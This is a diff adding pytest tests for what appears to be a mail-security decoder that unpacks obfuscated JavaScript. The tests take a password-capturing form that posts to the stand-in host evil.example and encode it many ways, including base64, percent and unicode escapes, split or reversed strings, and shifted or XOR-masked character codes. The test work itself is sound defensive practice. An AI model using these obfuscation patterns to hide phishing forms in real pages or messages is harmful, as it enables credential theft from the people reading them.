@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import time
 from base64 import b64encode
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from firstsight.mail.inside.literals import MAX_OUT, decoded
+from firstsight.mail.inside.literals import MAX_OUT, MAX_PIECES, decoded
 
 FORM = '<form action="https://evil.example/x"><input type=password>'
 
@@ -55,3 +56,77 @@ def test_hostile_scripts_take_bounded_time_and_room(script: str) -> None:
 @given(st.text(max_size=500))
 def test_any_text_gives_an_answer(script: str) -> None:
     assert decoded(script) == decoded(script)
+
+
+WHOLE = '<form action="https://evil.example/x"><input type="password"></form>'
+PACKED = b64encode(WHOLE.encode()).decode()
+
+
+def codes(shift: int = 0, mask: int = 0) -> str:
+    """The form as numbers with commas between."""
+    return ",".join(str((ord(letter) + shift) ^ mask) for letter in WHOLE)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"document.write(atob('{PACKED}'))",
+        f"document.write(atob('{PACKED[:20]}' + \"{PACKED[20:]}\"))",
+        f"document.write(atob('{PACKED[::-1]}'.split('').reverse().join('')))",
+        f"document.write(unescape('{quote(WHOLE)}'))",
+        f"document.write(unescape(atob('{b64encode(quote(WHOLE).encode()).decode()}')))",
+        "document.write(unescape('" + "".join(f"%u{ord(letter):04x}" for letter in WHOLE) + "'))",
+        "x.innerHTML = '" + "".join(f"\\x{ord(letter):02x}" for letter in WHOLE) + "'",
+        f"x.innerHTML = '{WHOLE[:9]}' +\n '{WHOLE[9:]}'",
+        f"x.innerHTML = ['{WHOLE[:9]}', '{WHOLE[9:40]}', '{WHOLE[40:]}'].join('')",
+        f"x.innerHTML = '{WHOLE[::-1]}'.split('').reverse().join('')",
+        f"String.fromCharCode({codes()})",
+        f"[{codes(7)}].map(n => String.fromCharCode(n - 7))",
+        f"[{codes(4711)}].map(n => String.fromCharCode(n - 4711))",
+        f"[{codes(mask=90)}].map(n => String.fromCharCode(n ^ 90))",
+        f"// don't\nx.innerHTML = `{WHOLE}`",
+    ],
+)
+def test_what_was_taken_apart_comes_out(script: str) -> None:
+    assert WHOLE in decoded(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "",
+        "var total = 1 + 2; alert('Good morning, everybody')",
+        f"var data = [{','.join(map(str, range(200)))}]",
+        "'%zz%'",
+    ],
+)
+def test_ordinary_scripts_give_nothing(script: str) -> None:
+    assert decoded(script) == []
+
+
+def test_a_script_in_a_literal_comes_out() -> None:
+    inner = f"document.write(atob('{PACKED}'))"
+    assert decoded(f"eval(atob('{b64encode(inner.encode()).decode()}'))") == [inner]
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ['"', '"\\', "`a\\", "'a", "\"'`", '"a"+', '"a",', "1,", "1  ,", "200,\n", '"%3c', "'\\\n", '"QUJDREVGR0hJSktM",'],
+)
+def test_a_million_characters_take_no_longer_than_a_second(unit: str) -> None:
+    start = time.process_time()
+    decoded(unit * (1_000_000 // len(unit)))
+    assert time.process_time() - start < 3.0  # a fraction of it on an idle machine
+
+
+@given(st.text(alphabet="\"'`\\+, 0x1u%3c<form&;\n=AQ", max_size=200))
+def test_any_script_is_read_within_bounds(script: str) -> None:
+    pieces = decoded(script)
+    assert len(pieces) <= MAX_PIECES
+    assert sum(map(len, pieces)) <= MAX_OUT
+
+
+@given(st.text(max_size=80).filter(lambda text: text.isprintable()))
+def test_base64_of_any_text_with_an_address_comes_out(text: str) -> None:
+    text = "https://a.example/ " + text.replace("%", "").replace("&", "")
+    assert text in decoded(f"atob('{b64encode(text.encode()).decode()}')")
